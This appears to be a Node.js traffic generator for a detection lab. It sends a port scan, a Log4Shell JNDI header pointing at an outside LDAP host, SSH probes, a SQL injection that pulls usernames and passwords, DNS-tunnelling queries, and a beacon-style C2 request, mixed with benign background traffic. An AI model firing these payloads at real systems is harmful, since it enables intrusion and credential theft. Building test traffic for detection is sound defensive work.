// The attacker's tools. Each sends a bounded number of packets to the lab's host and tells when the decisive one left.
// node attack.mjs KIND FROM TO
import { createSocket } from 'node:dgram';
import { connect as open } from 'node:net';

const [kind, from, to] = process.argv.slice(2);
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** One connection; what is written, and a moment to answer. A blocked attacker waits no longer than that. */
function connect(port, text, patience = 600) {
  return new Promise((resolve) => {
    const socket = open({ host: to, port, localAddress: from });
    const over = () => {
      socket.destroy();
      resolve();
    };
    socket.setTimeout(patience, over);
    socket.on('error', over);
    socket.on('close', over);
    socket.on('connect', () => {
      if (!text) return over();
      socket.write(text);
      socket.on('data', () => setTimeout(over, 20));
    });
  });
}

const request = (path, headers = '') =>
  connect(80, `GET ${path} HTTP/1.1\r\nHost: shop.example\r\n${headers}Connection: close\r\n\r\n`);

function ask(socket, name) {
  const head = Buffer.from([Math.random() * 256, Math.random() * 256, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  const labels = name
    .split('.')
    .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
  return new Promise((resolve) =>
    socket.send(Buffer.concat([head, ...labels, Buffer.from([0, 0, 1, 0, 1])]), 53, to, resolve),
  );
}
async function questions(names) {
  const socket = createSocket('udp4');
  await new Promise((resolve) => socket.bind({ address: from }, resolve));
  for (const name of names) {
    await ask(socket, name);
    await wait(15);
  }
  await wait(100);
  socket.close();
}
const letters = (n) =>
  Array.from({ length: n }, () => 'abcdefghijklmnopqrstuvwxyz234567'[Math.floor(Math.random() * 32)]).join(
    '',
  );

const KINDS = {
  async scan() {
    await Promise.all(Array.from({ length: 60 }, (_, i) => connect(1000 + i, '', 300)));
  },
  async log4shell() {
    await request(
      '/catalog?item=17',
      'User-Agent: Mozilla/5.0\r\nX-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}\r\nAccept: */*\r\n',
    );
  },
  async guess() {
    for (let i = 0; i < 8; i++) await connect(22, 'SSH-2.0-libssh_0.9.6\r\n', 250);
  },
  async sqli() {
    await request(
      "/products?id=1'+UNION+SELECT+username,password+FROM+users--",
      'User-Agent: sqlmap/1.7\r\n',
    );
  },
  async tunnel() {
    await questions(Array.from({ length: 16 }, () => `${letters(56)}.t.example`));
  },
  async beacon() {
    await request(
      '/gate.php?id=' + letters(12),
      'User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; cobalt)\r\n',
    );
  },
  /** What everybody does, so that charts have something to tell apart. */
  async crowd() {
    const end = Date.now() + 600_000;
    for (let i = 0; Date.now() < end; i++) {
      await request(
        ['/', '/catalog', `/catalog?item=${i % 97}`, '/basket', '/style.css'][i % 5],
        'User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n',
      );
      if (i % 3 === 0) await questions([['shop.example', 'cdn.example', 'mail.example'][((i % 9) / 3) | 0]]);
      await wait(60 + 200 * (1 + Math.sin(i / 40)) * Math.random());
    }
  },
};

if (kind === 'log4shell' || kind === 'sqli') console.log(JSON.stringify({ sent: Date.now() }));
await KINDS[kind]();
